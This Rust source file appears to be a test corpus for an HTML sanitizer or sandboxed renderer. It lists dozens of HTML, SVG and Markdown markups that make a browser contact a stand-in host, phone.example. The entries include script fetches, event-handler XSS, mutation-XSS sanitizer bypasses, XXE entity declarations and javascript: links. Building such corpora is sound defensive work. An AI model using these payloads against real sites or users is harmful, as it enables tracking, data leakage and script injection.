//! Documents that try to phone home.

/// One way to do it.
pub struct Way {
    pub name: &'static str,
    pub markup: &'static str,
    /// Whether Chromium does it by itself, so that a control can hear it.
    pub heard: bool,
}

const fn heard(name: &'static str, markup: &'static str) -> Way {
    Way { name, markup, heard: true }
}

/// It needs a click, another browser, or a time gone by.
const fn unheard(name: &'static str, markup: &'static str) -> Way {
    Way { name, markup, heard: false }
}

pub const WAYS: &[Way] = &[
    heard(
        "css-import",
        "<style>@import 'http://phone.example/import.css'; @\\69mport url(//phone.example/i2.css);</style>",
    ),
    heard("css-background", "<style>body { background: url(http://phone.example/bg) }</style>"),
    heard(
        "css-font",
        "<style>@font-face { font-family: x; src: url(http://phone.example/f.woff2) } p { font-family: x }</style><p>x",
    ),
    heard("css-image-set", "<style>p { background: -webkit-image-set('http://phone.example/set' 1x) }</style><p>x"),
    heard("style-attribute", "<p style=\"background:u\\72l(http://phone.example/attribute)\">x"),
    heard("css-list", "<ul style=\"list-style-image: url(http://phone.example/list)\"><li>x</ul>"),
    heard("css-content", "<style>p::before { content: url(http://phone.example/content) }</style><p>x"),
    heard("refresh", "<meta http-equiv=refresh content='1; url=http://phone.example/refresh'>"),
    heard("refresh-entities", "<meta http-equiv='&#82;efresh' content='0;&#117;rl=http://phone.example/entities'>"),
    heard("preload", "<link rel=preload as=image href=http://phone.example/preload>"),
    heard("preload-imagesrcset", "<link rel=preload as=image imagesrcset='http://phone.example/imagesrcset 1x'>"),
    heard("prefetch", "<link rel=prefetch href=http://phone.example/prefetch>"),
    heard("modulepreload", "<link rel=modulepreload href=http://phone.example/module.js>"),
    unheard("dns-prefetch", "<link rel=dns-prefetch href=//phone.example>"),
    heard("preconnect", "<link rel=preconnect href=http://phone.example>"),
    unheard("manifest", "<link rel=manifest href=http://phone.example/manifest.json>"),
    heard("stylesheet", "<link rel='ALTERNATE stylesheet' title=x href=http://phone.example/style.css>"),
    unheard("icon", "<link rel='shortcut icon' href=http://phone.example/favicon.ico>"),
    heard("base", "<base href=http://phone.example/base/><img src=relative>"),
    heard("object", "<object data=http://phone.example/object></object>"),
    heard("embed", "<embed src=http://phone.example/embed>"),
    heard("iframe", "<iframe src=http://phone.example/iframe></iframe>"),
    heard(
        "iframe-srcdoc",
        "<iframe srcdoc=\"&lt;img src=http://phone.example/srcdoc&gt;&lt;script&gt;fetch('http://phone.example/s')&lt;/script&gt;\"></iframe>",
    ),
    unheard("frameset", "<frameset><frame src=http://phone.example/frame></frameset>"),
    heard("script", "<script>new Image().src = 'http://phone.example/script'</script>"),
    heard("script-src", "<script src=http://phone.example/script.js></script>"),
    heard("event", "<img src=data:, onerror=\"fetch('http://phone.example/event')\">"),
    // Focus comes with a frame that is drawn, which may be after the budget.
    unheard("event-autofocus", "<input autofocus onfocus=\"fetch('http://phone.example/focus')\">"),
    heard("event-toggle", "<details open ontoggle=\"fetch('http://phone.example/toggle')\">x</details>"),
    heard("svg-script", "<svg><script>fetch('http://phone.example/svg-script')</script></svg>"),
    heard("svg-onload", "<svg onload=\"fetch('http://phone.example/svg-onload')\"></svg>"),
    heard(
        "svg-foreign",
        "<svg><foreignObject><iframe src=http://phone.example/foreign></iframe></foreignObject></svg>",
    ),
    heard("svg-image", "<svg><image href=http://phone.example/image xlink:href=http://phone.example/image2 /></svg>"),
    heard("svg-use", "<svg><use href=http://phone.example/use.svg#a /></svg>"),
    heard(
        "svg-feimage",
        "<svg width=9 height=9><filter id=f><feImage href=http://phone.example/feimage /></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    ),
    heard(
        "svg-animate",
        "<svg><image width=9 height=9><animate attributeName=href values=http://phone.example/animate begin=0s dur=1s /></image></svg>",
    ),
    heard(
        "svg-set",
        "<svg><image width=9 height=9><set attributeName=href to=http://phone.example/set-to /></image></svg>",
    ),
    heard("svg-style", "<svg><style>@import url(http://phone.example/svg.css);</style></svg>"),
    heard(
        "svg-style-mask",
        "<svg><style><![CDATA[ rect { fill: red } ]]></style><style>@import 'http://phone.example/cdata.css'</style><rect width=9 height=9 /></svg>",
    ),
    heard("svg-fill", "<svg><rect width=9 height=9 fill='url(http://phone.example/fill.svg#a)' /></svg>"),
    unheard(
        "form",
        "<form action=http://phone.example/form><input type=submit formaction=http://phone.example/formaction></form>",
    ),
    unheard("ping", "<a href=#x ping=http://phone.example/ping>x</a>"),
    heard("video", "<video autoplay muted src=http://phone.example/video></video>"),
    heard("video-poster", "<video poster=http://phone.example/poster></video>"),
    heard("audio", "<audio autoplay src=http://phone.example/audio></audio>"),
    heard("source", "<video autoplay muted><source src=http://phone.example/source></video>"),
    heard("track", "<video><track default src=http://phone.example/track></video>"),
    unheard("marquee", "<marquee onstart=\"fetch('http://phone.example/marquee')\" behavior=alternate>x</marquee>"),
    heard("srcset", "<img srcset='http://phone.example/srcset 1x, //phone.example/srcset2 2x'>"),
    heard("picture", "<picture><source srcset=http://phone.example/picture><img></picture>"),
    heard("body-background", "<body background=http://phone.example/background>"),
    heard(
        "table-background",
        "<table background=http://phone.example/table><tr><td background=//phone.example/td>x</table>",
    ),
    unheard("xlink", "<a xlink:href=http://phone.example/a>x</a><p xlink:href=http://phone.example/p>x</p>"),
    unheard("template", "<template><img src=http://phone.example/template></template>"),
    heard("shadow", "<div><template shadowrootmode=open><img src=http://phone.example/shadow></template></div>"),
    unheard("portal", "<portal src=http://phone.example/portal></portal>"),
    heard("input-image", "<input type=image src=http://phone.example/input>"),
    unheard("bgsound", "<bgsound src=http://phone.example/bgsound>"),
    unheard("applet", "<applet code=x codebase=http://phone.example/applet></applet>"),
    unheard(
        "csp-report",
        "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://phone.example/report\"><img src=x>",
    ),
    unheard("noscript", "<noscript><img src=http://phone.example/noscript></noscript>"),
    heard("mathml", "<math href=http://phone.example/math><mtext><img src=http://phone.example/mtext></mtext></math>"),
    heard("unquoted", "<img/src=http://phone.example/unquoted/alt=x>"),
    heard("entities", "<img src='&#104;ttp:&sol;&sol;phone.example&sol;entity'>"),
    heard("whitespace", "<img src=' ht\ntp:\\\\phone.example/white'>"),
    heard(
        "speculation",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://phone.example/speculation\"],\"eagerness\":\"immediate\"}]}</script><script>fetch('http://phone.example/beside')</script>",
    ),
    heard(
        "mxss-noscript",
        "<noscript><p title=\"</noscript><img src=http://phone.example/mxss1 onerror=fetch('http://phone.example/m1')>\"></noscript>",
    ),
    heard("mxss-svg-style", "<svg></p><style><a id=\"</style><img src=http://phone.example/mxss2>\"></svg>"),
    heard(
        "mxss-math",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=http://phone.example/mxss3&gt;\" src=http://phone.example/mxss3b>",
    ),
    unheard(
        "mxss-form",
        "<form><math><mtext></form><form><mglyph><style></math><img src=http://phone.example/mxss4></style>",
    ),
    heard(
        "mxss-title",
        "<svg><title><style><img src=http://phone.example/mxss5></style></title><desc><img src=http://phone.example/mxss6></desc></svg>",
    ),
    heard("mxss-textarea", "<textarea><a title=\"</textarea><img src=http://phone.example/mxss7>\">"),
    heard(
        "mxss-comment",
        "<!--><img src=http://phone.example/mxss8>--><!--!><p>--!><img src=http://phone.example/mxss9>",
    ),
    heard(
        "select",
        "<select><option><img src=x></select><xmp><p title='</xmp><img src=http://phone.example/xmp>'></xmp>",
    ),
];

/// The drawing that a server gives for every `.svg`.
pub const DRAWING: &str = r#"<?xml version="1.0"?>
<?xml-stylesheet href="http://phone.example/pi.css"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://phone.example/svg11.dtd" [<!ENTITY e SYSTEM "http://phone.example/entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60" onload="fetch('http://phone.example/a-onload')">
<script>fetch('http://phone.example/a-script')</script><script href="http://phone.example/a.js"/>
<style>@import url(http://phone.example/a.css); rect { fill: url(http://phone.example/a-fill) }</style>
<rect width="90" height="60" fill="teal" style="background: url('http://phone.example/a-style')"/>
<image href="http://phone.example/a-image" width="9" height="9"/><use xlink:href="http://phone.example/a-use.svg#x"/>
<filter id="f"><feImage xlink:href="http://phone.example/a-fe"/></filter><circle r="9" filter="url(#f)"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://phone.example/a-frame"/></foreignObject>
<animate attributeName="href" values="http://phone.example/a-animate"/><set attributeName="onload" to="fetch('http://phone.example/a-set')"/>
<a xlink:href="javascript:fetch('http://phone.example/a-link')"><text>x</text></a></svg>
"#;

/// A document of one way, with text and a picture that is there.
pub fn document(way: &Way) -> String {
    let Way { name, markup, .. } = way;
    format!(
        "<!DOCTYPE html><title>{name}</title><p>This is {name}.</p><img src='http://held.example/{name}.png'>\n{markup}"
    )
}

/// All ways, one after another, as a document in Markdown.
pub fn markdown() -> String {
    let ways: Vec<&str> = WAYS.iter().map(|way| way.markup).collect();
    let links = "![a](http://held.example/md.png) ![b](javascript:fetch('http://phone.example/md')) [c]: http://phone.example/ref";
    format!(
        "---\ntitle: Ways\nheadimg: http://held.example/cover.svg\n---\n\n# Ways\n\n{links}\n\n{}\n",
        ways.join("\n\n")
    )
}
